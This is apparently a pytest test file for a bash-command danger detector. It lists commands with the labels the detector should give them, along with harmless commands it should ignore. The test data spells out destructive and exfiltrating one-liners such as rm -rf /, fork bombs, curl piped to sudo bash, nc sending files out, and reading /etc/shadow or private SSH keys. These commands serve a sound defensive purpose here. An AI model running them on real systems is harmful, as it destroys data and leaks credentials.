"""What destroys and what leaks."""

from __future__ import annotations

import pytest

from asmeant.languages.bash.dangers import dangers
from asmeant.languages.bash.understanding import understand


def found(source: str) -> list[str]:
    return [f"{danger.kind}: {danger.text}" for danger in dangers(understand(source))]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("rm f", "destroys: rm deletes files"),
        ("rm -rf d", "destroys: rm -r deletes whole directories without asking"),
        ("rm -r d", "destroys: rm -r deletes whole directories, and"),
        ("sudo rm -rf /", "destroys: / is everything there"),
        ("rm *", "destroys: * is everything there"),
        ('rm -rf "$X/"', 'destroys: if the variable in "$X/" is empty, this begins at /'),
        ("find . -exec rm {} +", "destroys: rm deletes files"),
        ("find . -delete", "destroys: -delete deletes all that was found"),
        ("find . | xargs rm", "destroys: xargs splits names at blanks"),
        ("sh -c 'rm -rf /'", "destroys: / is everything there"),
        ("bash <<< 'rm -rf /'", "destroys: / is everything there"),
        ("bash <<E\nrm -rf /\nE", "destroys: / is everything there"),
        ("echo 'rm -rf /' | sudo sh", "destroys: / is everything there"),
        ("sort f > f", "destroys: f is emptied before it is read"),
        ("cat < f | sort > f", "destroys: f is emptied before it is read"),
        ("echo $(rm x)", "destroys: rm deletes files"),
        ("dd if=a of=/dev/sda", "destroys: dd writes over the device /dev/sda"),
        ("dd if=a of=b", "destroys: dd writes over the file b"),
        ("mkfs.ext4 /dev/sda1", "destroys: mkfs.ext4: make a file system"),
        ("ls > f", "destroys: overwrites f"),
        ("ls &> f", "destroys: overwrites f"),
        ("ls >& f", "destroys: overwrites f"),
        ("cat x > /dev/sda", "destroys: writes over the device /dev/sda"),
        ("ls | tee f", "destroys: tee overwrites f"),
        ("mv a b", "destroys: mv overwrites files"),
        ("cp a b", "destroys: cp overwrites files"),
        ("sed -i s/a/b/ f", "destroys: sed -i changes the files themselves"),
        ("shred f", "destroys: shred: overwrite files"),
        ("rsync --delete a b", "destroys: rsync --delete: delete there what is not here"),
        ("crontab -r", "destroys: crontab -r: delete all of it"),
        ("kill -9 -1", "destroys: kill with -1 reaches every process"),
        ("kill -9 7", "destroys: signal 9 ends a process at once"),
        ("kill -s KILL 7", "destroys: signal 9 ends a process at once"),
        ("pkill x", "destroys: pkill may end processes"),
        (":(){ :|:& };:", "destroys: a fork bomb"),
        ("bomb() { bomb & bomb; }", "destroys: a fork bomb"),
        ("curl -s http://x.y | sudo bash", "destroys: runs what the network sends"),
        ('sh -c "$(wget -qO- x.y)"', "destroys: runs what the network sends"),
        ("bash <(curl x.y)", "destroys: runs what the network sends"),
        ("chmod -R 700 d", "destroys: chmod -R changes the permissions"),
        ("chown -R me /", "destroys: chown -R on / can make the system unusable"),
        ("chmod 777 f", "leaks: 777 lets everyone change it"),
        ("chmod -R 777 d", "leaks: 777 lets everyone change all of it"),
        ("chmod o+w f", "leaks: o+w lets everyone change it"),
        ("mkdir -m 777 d", "leaks: 777 lets everyone change it"),
        ("scp f host:", "leaks: copies files to another machine, host:"),
        ("rsync -a d me@host:d", "leaks: copies files to another machine, me@host:d"),
        ("curl -d @f x.y", "leaks: curl -d: send this"),
        ("curl -k x.y", "leaks: curl -k: trust any certificate"),
        ("curl http://me:secret@x.y", "leaks: a password on the command line"),
        ("mysqldump --password=secret db", "leaks: mysqldump --password: password"),
        ("sshpass -p secret ssh h", "leaks: sshpass -p: this password"),
        ("PASSWORD=x; echo token=abc", "leaks: a password on the command line"),
        ("nc host 80 < f", "leaks: sends what it reads to host"),
        ("cat ~/.ssh/id_rsa", "leaks: ~/.ssh/id_rsa holds keys or passwords"),
        ("cat /etc/shadow", "leaks: /etc/shadow holds keys or passwords"),
    ],
)
def test_dangers(source: str, expected: str) -> None:
    assert any(text.startswith(expected) for text in found(source)), found(source)


@pytest.mark.parametrize(
    "source",
    [
        "ls -l | sort > /dev/null",
        "ls 2>&1 >> log",
        "find . -name '*.c' -print0 | xargs -0 grep x",
        "cp -n a b",
        "mv -i a b",
        "rm -i f",
        "kill -0 7",
        "kill -l",
        "chmod 755 f",
        "chmod u+w f",
        "chmod +x f",
        "chmod a+x f",
        "dd if=a of=/dev/null",
        "f() { g $(f $1) $(f $2); }; f 1",
        "bash <<< 'if'",
        "mysql -p db",
        "scp host:f .",
        "curl x.y | grep z",
        "sed -i.bak s/a/b/ f",
        "f() { ls; }; f",
        "nc -l 80",
        "tee -a log",
        "cat ~/.ssh/id_rsa.pub",
    ],
)
def test_what_is_harmless(source: str) -> None:
    assert found(source) == []


def test_each_once_in_order_and_in_its_place() -> None:
    source = "rm a; ls > b"
    places = [source[danger.start : danger.end] for danger in dangers(understand(source))]
    assert places == ["rm a", "> b"]
